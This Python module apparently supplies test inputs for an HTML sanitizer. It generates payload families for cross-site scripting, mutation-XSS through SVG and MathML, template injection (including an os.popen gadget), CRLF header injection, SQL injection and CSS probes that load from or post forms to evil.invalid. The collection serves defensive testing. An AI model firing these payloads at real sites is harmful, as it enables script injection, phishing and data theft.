"""Hostile texts by what they try, all our own. Each that would become an element or an attribute carries `MARKER`."""

from collections.abc import Callable, Iterable

MARKER = "data-xss"
"""The attribute that nothing but a payload has."""


_RUN = "hit(1)"


def _elements() -> Iterable[str]:
    """Elements that run something by themselves."""
    yield f"<script {MARKER}>{_RUN}</script>"
    yield f"<SCRIPT {MARKER}>{_RUN}</SCRIPT>"
    yield f"<ScRiPt\t{MARKER}>{_RUN}</sCrIpT >"
    yield f"<script {MARKER} src=//evil.invalid/x.js></script>"
    yield f"<script {MARKER} src=data:text/javascript,{_RUN}></script>"
    yield f"<script {MARKER} type=module>{_RUN}</script>"
    yield f"<script/{MARKER}>{_RUN}</script>"
    yield f"<script\n{MARKER}>{_RUN}\n</script\n>"
    yield f"<script {MARKER}>/*<!--*/{_RUN}//--></script>"
    yield f"<script {MARKER}>{_RUN}"
    yield f"<scr<script {MARKER}>ipt>{_RUN}</scr</script>ipt>"
    yield f"<<script {MARKER}>{_RUN}//<</script>"
    yield f"<iframe {MARKER} src=javascript:parent.{_RUN}></iframe>"
    yield f"<iframe {MARKER} srcdoc='<script>parent.{_RUN}</script>'></iframe>"
    yield f"<iframe {MARKER} onload={_RUN}></iframe>"
    yield f"<frameset {MARKER} onload={_RUN}><frame></frameset>"
    yield f"<object {MARKER} data=javascript:{_RUN}></object>"
    yield f"<object {MARKER} data=data:text/html,<script>{_RUN}</script>></object>"
    yield f"<embed {MARKER} src=javascript:{_RUN}>"
    yield f"<applet {MARKER} code=x></applet>"
    yield f"<base {MARKER} href=//evil.invalid/>"
    yield f"<meta {MARKER} http-equiv=refresh content='0;url=javascript:{_RUN}'>"
    yield f"<meta {MARKER} http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    yield f"<link {MARKER} rel=stylesheet href=//evil.invalid/x.css>"
    yield f"<link {MARKER} rel=preload as=script href=//evil.invalid/x.js onload={_RUN}>"
    yield f"<style {MARKER}>body{{background:url(//evil.invalid/x)}}</style>"
    yield f"<style {MARKER} onload={_RUN}></style>"
    yield f"<form {MARKER} action=//evil.invalid/><input name=password><button>Sign in</button></form>"
    yield f"<template {MARKER}><script>{_RUN}</script></template>"
    yield f"<dialog {MARKER} open>{_RUN}</dialog>"
    yield f"<custom-one {MARKER} onclick={_RUN}>x</custom-one>"


def _handlers() -> Iterable[str]:
    """Elements with a handler that runs without or with a hand."""
    for element, event in (
        ("img src=x", "onerror"),
        ("img src=/static/favicon.svg", "onload"),
        ("image src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("video src=x", "onerror"),
        ("video><source", "onerror"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("body", "onhashchange"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button popovertarget=x", "onclick"),
        ("a tabindex=0 autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("div style=animation-name:x", "onanimationstart"),
        ("div style=transition:1s", "ontransitionend"),
        ("p", "onmouseover"),
        ("p", "onpointerenter"),
        ("div contenteditable", "onbeforeinput"),
        ("div", "onscrollend"),
        ("div", "oncopy"),
        ("form", "onsubmit"),
        ("form", "onformdata"),
        ("xss hidden=until-found", "onbeforematch"),
        ("track default src=x", "onerror"),
        ("bgsound", "onpropertychange"),
        ("keygen autofocus", "onfocus"),
    ):
        yield f"<{element} {MARKER} {event}={_RUN}>"
    yield f"<img/src=x/{MARKER}/onerror={_RUN}>"
    yield f"<img src=`x` {MARKER} onerror=`{_RUN}`>"
    yield f"<img\nsrc=x\n{MARKER}\nonerror\n=\n{_RUN}\n>"
    yield f"<img\x0csrc=x\x0c{MARKER}\x0conerror={_RUN}>"
    yield f"<IMG SRC=x {MARKER.upper()} ONERROR=&#104;it&#40;1&#41;>"
    yield f'<img src="x" {MARKER} onerror="&#x68;it(1)">'
    yield f"<img src=x {MARKER} onerror=hit&lpar;1&rpar;>"
    yield f"<img src=x {MARKER} onerror=eval(atob('aGl0KDEp'))>"
    yield f"<img src=x {MARKER} onerror=\\u0068it(1)>"
    yield f"<img src=x {MARKER} onerror=alert(document.domain)>"
    yield f"<img src=x {MARKER} onerror=confirm`1`>"
    yield f"<img src=x {MARKER} onerror=prompt(1)//"
    yield f'<img src=x {MARKER} onerror="{_RUN}'


def _foreign() -> Iterable[str]:
    """SVG and MathML, and what changes its meaning between them and HTML."""
    yield f"<svg {MARKER} onload={_RUN}>"
    yield f"<svg {MARKER}><script>{_RUN}</script></svg>"
    yield f"<svg {MARKER}><script href=data:,{_RUN} /></svg>"
    yield f"<svg {MARKER}><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>"
    yield f"<svg {MARKER}><animate onbegin={_RUN} attributeName=x dur=1s>"
    yield f"<svg {MARKER}><set attributeName=onmouseover to={_RUN}>"
    yield f"<svg {MARKER}><set onbegin={_RUN} attributeName=x>"
    yield f"<svg {MARKER}><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>"
    yield f"<svg {MARKER}><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>"
    yield f"<svg {MARKER}><image href=x onerror={_RUN}>"
    yield f"<svg {MARKER}><style>*{{fill:url(//evil.invalid/)}}</style></svg>"
    yield f"<svg><desc><img src=x {MARKER} onerror={_RUN}></desc></svg>"
    yield f"<svg><title><p {MARKER} onclick={_RUN}>x</title></svg>"
    yield f"<math {MARKER} href=javascript:{_RUN}>x</math>"
    yield f"<math><mtext {MARKER}><img src=x onerror={_RUN}></mtext></math>"
    yield f"<math><maction {MARKER} actiontype=statusline#javascript:{_RUN}>x</maction></math>"
    yield f"<math><annotation-xml encoding=text/html><img src=x {MARKER} onerror={_RUN}></annotation-xml></math>"
    yield f"<math><mi {MARKER} xlink:href=javascript:{_RUN}>x</mi></math>"
    yield f"<math><mtext><table><mglyph><style><img src=x {MARKER} onerror={_RUN}>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x {MARKER} onerror={_RUN}>"
    yield f"<svg><p><style><g title='</style><img src=x {MARKER} onerror={_RUN}>'>"
    yield f"<svg></p><style><a id='</style><img src=x {MARKER} onerror={_RUN}>'>"
    yield f"<math><p></math><style><!--</style><img title='--><img src=x {MARKER} onerror={_RUN}>'>"
    yield f"<noscript><p title='</noscript><img src=x {MARKER} onerror={_RUN}>'>"
    yield f"<listing>&lt;img src=x {MARKER} onerror={_RUN}&gt;</listing>"
    yield f"<plaintext><img src=x {MARKER} onerror={_RUN}>"
    yield f"<xmp><p title='</xmp><img src=x {MARKER} onerror={_RUN}>'></xmp>"
    yield f"<noembed><p title='</noembed><img src=x {MARKER} onerror={_RUN}>'>"
    yield f"<table><tr><td></table><img src=x {MARKER} onerror={_RUN}>"
    yield f"<select><option><img src=x {MARKER} onerror={_RUN}></option></select>"
    yield f"<select><template><style><img src=x {MARKER} onerror={_RUN}></style></template></select>"
    yield f"<![CDATA[<img src=x {MARKER} onerror={_RUN}>]]>"
    yield f"<svg><![CDATA[</svg><img src=x {MARKER} onerror={_RUN}>]]>"
    yield f"<?xml version='1.0'?><img src=x {MARKER} onerror={_RUN}>"
    yield f"<!DOCTYPE x [<!ENTITY e '{_RUN}'>]><p {MARKER}>&e;</p>"
    yield f"<!-- --!><img src=x {MARKER} onerror={_RUN}> -->"
    yield f"<!--><img src=x {MARKER} onerror={_RUN}>-->"


def _ends() -> Iterable[str]:
    """What closes the part of the page that it stands in."""
    for closing in (
        "</p>", "</td></tr></table>", "</title>", "</textarea>", "</script>", "</style>", "</select>", "</option>",
        "</button>", "</a>", "</code>", "</li></ol>", "</main>", "</body>", "</html>", "</form>", "</head>",
        "</template>", "</legend></fieldset>", "</svg>", "</time>", "</label>", "</h1>", "</iframe>", "</noscript>",
        "-->", "]]>", "*/", "%>", "?>",
    ):  # fmt: skip
        yield f"{closing}<img src=x {MARKER} onerror={_RUN}>"
    for quoted in ('"', "'", "`", "", "&quot;", "&#34;", '\\"', "\\'", '""', "''"):
        yield f"{quoted} {MARKER}={quoted}1{quoted} autofocus onfocus={quoted}{_RUN}"
        yield f"{quoted}><img src=x {MARKER} onerror={_RUN}>"
    yield f'" style="background:red" {MARKER}="'
    yield f'"/{MARKER}/onmouseover="{_RUN}'
    yield f'x" formaction="javascript:{_RUN}" {MARKER}="'
    yield f'x" id="main" name="nonce" form="x" {MARKER}="'
    yield f'x"\n{MARKER}\nonpointerover="{_RUN}'


def _scripts() -> Iterable[str]:
    """What leaves a text or a value within a script, or within JSON."""
    yield f'";{_RUN};//'
    yield f"';{_RUN};//"
    yield f"`;{_RUN};//"
    yield f"${{{_RUN}}}"
    yield f"\\';{_RUN};//"
    yield f'\\";{_RUN};//'
    yield f'"}}]}};{_RUN};//'
    yield f'{{"__proto__": {{"{MARKER}": 1}}}}'
    yield '{"constructor": {"prototype": {"innerHTML": "<img src=x onerror=hit(1)>"}}}'
    yield f"</script><script {MARKER}>{_RUN}</script>"
    yield f'"</script ><script {MARKER}>{_RUN}//'
    yield f"\u2028{_RUN}\u2029"
    yield f"<!--<script {MARKER}>{_RUN}"
    yield f"*/{_RUN}/*"
    yield f"-{_RUN}-"
    yield f"1;{_RUN}"
    yield f"\n{_RUN}\n"
    yield f"javascript:/*--></title></style></textarea></script><svg {MARKER} onload={_RUN}>"


def _addresses() -> Iterable[str]:
    """What runs as an address."""
    yield f"javascript:{_RUN}"
    yield f"JaVaScRiPt:{_RUN}"
    yield f"java\tscript:{_RUN}"
    yield f"java\nscript:{_RUN}"
    yield f"\x01javascript:{_RUN}"
    yield f"javascript&colon;{_RUN}"
    yield f"javascript://%0a{_RUN}"
    yield f"vbscript:{_RUN}"
    yield f"data:text/html,<script {MARKER}>{_RUN}</script>"
    yield "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4="
    yield f"blob:{_RUN}"
    yield "//evil.invalid/"
    yield "https://evil.invalid\\@host/"
    yield f"<a {MARKER} href=javascript:{_RUN}>x</a>"
    yield f"<a {MARKER} href='&#106;avascript:{_RUN}'>x</a>"
    yield f"<area {MARKER} href=javascript:{_RUN}>"
    yield f"<button {MARKER} formaction=javascript:{_RUN}>x</button>"
    yield f"[x](javascript:{_RUN})"
    yield f"![x](x{_RUN})"


def _templates() -> Iterable[str]:
    """What a template engine would work out."""
    yield "{{7*7}}"
    yield "{{ 7*'7' }}"
    yield "{% if 1 %}49{% endif %}"
    yield "{#49#}"
    yield "{{config}}"
    yield "{{request.environ}}"
    yield "{{''.__class__.__mro__[1].__subclasses__()}}"
    yield "{{cycler.__init__.__globals__.os.popen('id').read()}}"
    yield "{{url_for.__globals__}}"
    yield f"{{{{'<img src=x {MARKER} onerror={_RUN}>'|safe}}}}"
    yield "{%raw%}{{7*7}}{%endraw%}"
    yield "}}{{7*7}}{{"
    yield "#{7*7}"
    yield "${7*7}"
    yield "<%= 7*7 %>"
    yield "%(value)s %s %d %n"
    yield "{0.__class__} {0} {!r}"
    yield "{{constructor.constructor('hit(1)')()}}"
    yield f"<div {MARKER} ng-app>{{{{7*7}}}}</div>"
    yield f"<div {MARKER} v-html=x>"


def _styles() -> Iterable[str]:
    """What runs or loads something from a style."""
    yield f"<p {MARKER} style=background:url(//evil.invalid/x)>x</p>"
    yield f"<p {MARKER} style='width:expression({_RUN})'>x</p>"
    yield f"</style><style {MARKER}>@import '//evil.invalid/x.css'"
    yield "background:url(//evil.invalid/x);position:fixed;inset:0"
    yield f"<p {MARKER} style=position:fixed;inset:0;z-index:9999>Sign in again</p>"
    yield f"<style {MARKER}>input[value^=a]{{background:url(//evil.invalid/a)}}</style>"


def _characters() -> Iterable[str]:
    """Characters that hide, turn round or break what stands around them."""
    yield f"<scr\0ipt {MARKER}>{_RUN}</scr\0ipt>"
    yield f"\0<img src=x {MARKER} onerror={_RUN}>"
    yield f"<img src=x {MARKER} one\0rror={_RUN}>"
    yield f"\u202e<img src=x {MARKER} onerror={_RUN}>\u202c"
    yield f'\u2066>"x={MARKER} gmi<\u2069'
    yield f"\u200b<\u200bimg src=x {MARKER} onerror={_RUN}>"
    yield f"\uff1cscript {MARKER}\uff1e{_RUN}\uff1c/script\uff1e"
    yield f"\ufeff<script {MARKER}>{_RUN}</script>"
    yield f"+ADw-script {MARKER}+AD4-{_RUN}+ADw-/script+AD4-"
    yield f"\u017fcript <\u017fcript {MARKER}>{_RUN}</\u017fcript>"
    yield f"\x1b]0;title\x07<img src=x {MARKER} onerror={_RUN}>"
    yield f"\udcff\udcfe<script {MARKER}>{_RUN}</script>"
    yield f"\udcc0\udcbcscript {MARKER}\udcc0\udcbe{_RUN}"
    yield f"<img src=x {MARKER} alt=\udcf0\udc9f onerror={_RUN}>"
    yield f"\udce2<p {MARKER}>\udcc3\"\udcc3'"
    yield f"%3Cscript {MARKER}%3E{_RUN}%3C/script%3E"
    yield f"%253Cscript {MARKER}%253E{_RUN}%253C/script%253E"
    yield f"&lt;script {MARKER}&gt;{_RUN}&lt;/script&gt;"
    yield f"&amp;lt;img src=x {MARKER} onerror={_RUN}&amp;gt;"
    yield f"&#60;img src=x {MARKER} onerror={_RUN}&#62;"
    yield f"&NewLine;<img&Tab;src=x {MARKER} onerror={_RUN}>"
    yield f"\\u003cimg src=x {MARKER} onerror={_RUN}\\u003e"
    yield f"\\x3cimg src=x {MARKER} onerror={_RUN}\\x3e"
    yield f"Zo\u00eb \U0001f9ea <b {MARKER}>\u05d0\u0628</b>"
    yield "\u0301" * 60 + f"<b {MARKER}>"
    yield f"x\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n<script {MARKER}>{_RUN}</script>"
    yield f"x\r\nLocation: javascript:{_RUN}"
    yield f"x\n\n<html {MARKER}><script>{_RUN}</script>"
    yield f"x\u010d\u010aSet-Cookie: a=b <b {MARKER}>"
    yield f"../../../<img src=x {MARKER} onerror={_RUN}>"
    yield f"' OR 1=1 -- <b {MARKER}>"
    yield f"'; DROP TABLE participants; -- <b {MARKER}>"
    yield f"%_\\ <b {MARKER}>"
    yield f'=HYPERLINK("javascript:{_RUN}","x")'
    yield "<" * 400 + f"<b {MARKER}>"
    yield "A" * 400 + f"<img src=x {MARKER} onerror={_RUN}>"
    yield f"<img src=x {MARKER} onerror={_RUN}>" * 40
    yield "<div>" * 300 + f"<b {MARKER}>"
    yield f"<b {MARKER} " + " ".join(f"a{number}" for number in range(400)) + ">"


FAMILIES: tuple[Callable[[], Iterable[str]], ...] = (
    _elements,
    _handlers,
    _foreign,
    _ends,
    _scripts,
    _addresses,
    _templates,
    _styles,
    _characters,
)
